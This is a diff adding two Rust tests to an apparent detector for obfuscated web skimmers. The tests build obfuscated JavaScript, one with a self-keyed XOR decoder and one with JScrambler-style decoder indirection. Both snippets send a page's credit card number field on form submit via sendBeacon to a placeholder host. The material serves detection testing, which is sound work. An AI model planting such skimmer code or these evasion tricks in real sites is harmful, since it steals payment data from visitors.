@@ -224,3 +224,44 @@ fn destination_built_step_by_step_in_a_local() {
     );
     assert_exfiltration("step-by-step URL", &code);
 }
+
+#[test]
+fn decoder_keyed_on_its_own_script_text() {
+    // The key is the length of the script's last line, read back through the page's
+    // `<script>` element, so an edited copy decodes to garbage.
+    let last_line = "//end-of-loader-0123";
+    let key = last_line.len() as u8;
+    let words = format!(
+        "getElementById|cc_number|value|https://{HOST}/k|sendBeacon"
+    );
+    let hex: String = words.bytes().map(|b| format!("{:02x}", b ^ key)).collect();
+    let code = format!(
+        "(function(){{function D(s){{var t=document.getElementsByTagName('script');\
+         var l=t[t.length-1].innerHTML.split('\\n');var k=l[l.length-1].length,o='';\
+         for(var i=0;i<s.length;i+=2)o+=String.fromCharCode(parseInt(s.substr(i,2),16)^k);return o}}\
+         var T=D('{hex}').split('|');\
+         (function(){{document.addEventListener('submit',function(){{\
+         navigator[T[4]](T[3],document[T[0]](T[1])[T[2]])}})}})()}})();\n{last_line}"
+    );
+    assert_exfiltration("self-keyed decoder", &code);
+}
+
+#[test]
+fn decoder_indices_parked_in_locals_jscrambler_style() {
+    // `function d(){}` gets its decoder as a property; every call site first parks the
+    // index in a local, directly or through an identity function.
+    let words = ["sendBeacon", &format!("https://{HOST}/j"), "getElementById", "cc_number", "value"];
+    let table: Vec<String> = words
+        .iter()
+        .map(|w| w.bytes().map(|b| format!("%{b:02X}")).collect::<String>())
+        .collect();
+    let code = format!(
+        "function d(){{}}d.k=function(y){{return y;}};\
+         d.t=(function(){{var a='{}'.split(',');return function(i){{return decodeURIComponent(a[i]);}};}})();\
+         function go(){{var i,j,m,n,p;i=0;j=d.k(1);m=2;n=d.k(3);p=4;\
+         navigator[d.t(i)](d.t(j),document[d.t(m)](d.t(n))[d.t(p)]);}}\
+         document.addEventListener('submit',go);",
+        table.join(",")
+    );
+    assert_exfiltration("JScrambler locals", &code);
+}
